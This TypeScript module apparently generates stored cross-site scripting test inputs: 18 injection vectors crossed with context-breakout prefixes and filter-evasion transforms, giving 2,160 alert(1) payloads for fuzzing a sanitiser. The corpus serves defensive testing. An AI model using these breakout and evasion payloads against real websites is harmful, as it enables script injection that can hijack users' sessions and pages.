/* Scripts as attackers store them, to be run by whoever looks: each calls `alert` if anything runs it. */

const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a>',
  '<style>@import "javascript:alert(1)"</style><link rel=stylesheet href="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '[x](javascript:alert(1))![x](x"onerror="alert(1))',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: somebody hopes that it is one
  '${alert(1)}#{alert(1)}<%= alert(1) %>',
  'javascript:alert(1)',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
const before = [
  '',
  '">',
  "'>",
  '-->',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '`',
  ']]>',
  '\u2028',
  '<b>x</b>',
]
const shapes: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_, c: string) => `<${c.toUpperCase()}`),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll('(1)', '`1`'),
  (text) => text.replaceAll('javascript:', 'java\tscript:'),
  (text) => text.replaceAll('alert', 'top["al"+"ert"]'),
  (text) => text.replaceAll('"', "'"),
  (text) => `${text}"><!--`,
  (text) => text.replaceAll('<', '<<'),
]

/** Scripts, each another one: 2,160 in all. Those that come first differ most. */
export function storedScripts(most = Number.POSITIVE_INFINITY): string[] {
  const all = shapes.flatMap((shape) => before.flatMap((start) => vectors.map((vector) => `${start}${shape(vector)}`)))
  const step = Math.max(1, Math.floor(all.length / most))
  return all.filter((_, i) => i % step === 0).slice(0, most)
}
